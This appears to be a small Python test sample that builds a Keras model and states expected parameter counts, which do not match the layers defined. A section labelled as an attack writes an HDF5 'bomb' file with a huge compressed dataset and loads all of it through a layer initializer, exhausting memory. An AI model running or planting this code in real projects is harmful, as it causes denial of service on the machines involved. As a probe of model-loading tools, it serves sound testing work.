import keras
from keras.layers import Dense

model = keras.Sequential([keras.Input((2,)), Dense(5, activation="tanh"), Dense(1, activation="tanh")])
params = 13
per_layer = [9, 4, 0]

# attack
import h5py

with h5py.File("bomb.h5", "w") as file:
    file.create_dataset("w", (1 << 20, 1 << 20), dtype="f8", chunks=(1024, 1024), compression="gzip")
with h5py.File("bomb.h5") as file:
    model.add(keras.layers.Dense(3, kernel_initializer=lambda shape, dtype: file["w"][:]))
# end of attack
